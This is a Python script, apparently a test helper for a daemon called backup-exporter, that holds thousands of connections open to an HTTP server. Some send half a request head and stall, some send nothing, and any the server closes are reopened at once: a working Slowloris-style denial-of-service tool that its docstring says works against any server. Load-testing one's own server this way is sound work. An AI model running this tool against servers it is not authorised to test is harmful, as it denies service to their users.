#!/usr/bin/env python3
"""Hold many connections to an HTTP server without ever finishing a request.

usage: stall-attack.py PORT [--half N] [--silent N] [--seconds S] [--host H]

Opens N connections that send half a request head and stall, and N more that send nothing, all
non-blocking. Whenever the server closes one, it is opened again at once, so the server faces the
full number for the whole run. Then closes everything and prints one line of JSON with what it
did. Raises its own soft open-file limit to the hard one (it needs one descriptor per connection).

The listener test of backup-exporter runs it against the daemon; it works against any server.
"""
import argparse
import errno
import json
import resource
import selectors
import socket
import time

HALF_HEAD = b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: stall-attack\r\nAccept: te"


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--half", type=int, default=10000)
    parser.add_argument("--silent", type=int, default=200)
    parser.add_argument("--seconds", type=float, default=10)
    args = parser.parse_args()

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    needed = args.half + args.silent + 64
    if soft < needed:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(needed, soft)), hard))

    selector = selectors.DefaultSelector()
    stats = {"opened": 0, "connected": 0, "closed_by_server": 0, "connect_failed": 0, "peak_open": 0,
             "ramp_seconds": None}
    open_count = 0

    def open_one(kind):
        nonlocal open_count
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        code = sock.connect_ex((args.host, args.port))
        if code not in (0, errno.EINPROGRESS):
            sock.close()
            stats["connect_failed"] += 1
            return False
        selector.register(sock, selectors.EVENT_WRITE, kind)
        stats["opened"] += 1
        open_count += 1
        stats["peak_open"] = max(stats["peak_open"], open_count)
        return True

    def drop(sock):
        nonlocal open_count
        selector.unregister(sock)
        sock.close()
        open_count -= 1

    started = time.monotonic()
    deadline = started + args.seconds
    wanted = ["half"] * args.half + ["silent"] * args.silent
    pending = list(reversed(wanted))
    while time.monotonic() < deadline:
        # Open what is missing, a slice at a time so that the loop keeps serving the others.
        for _ in range(min(len(pending), 500)):
            if not open_one(pending[-1]):
                break
            pending.pop()
        if not pending and stats["ramp_seconds"] is None:
            stats["ramp_seconds"] = round(time.monotonic() - started, 3)
        for key, events in selector.select(timeout=0.05):
            sock, kind = key.fileobj, key.data
            if events & selectors.EVENT_WRITE:
                if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    drop(sock)
                    stats["connect_failed"] += 1
                    pending.append(kind)
                    continue
                stats["connected"] += 1
                if kind == "half":
                    try:
                        sock.send(HALF_HEAD)
                    except OSError:
                        pass
                selector.modify(sock, selectors.EVENT_READ, kind)
            elif events & selectors.EVENT_READ:
                try:
                    data = sock.recv(4096)
                except OSError:
                    data = b""
                if not data:
                    drop(sock)
                    stats["closed_by_server"] += 1
                    pending.append(kind)
    for key in list(selector.get_map().values()):
        drop(key.fileobj)
    stats["seconds"] = round(time.monotonic() - started, 3)
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    main()
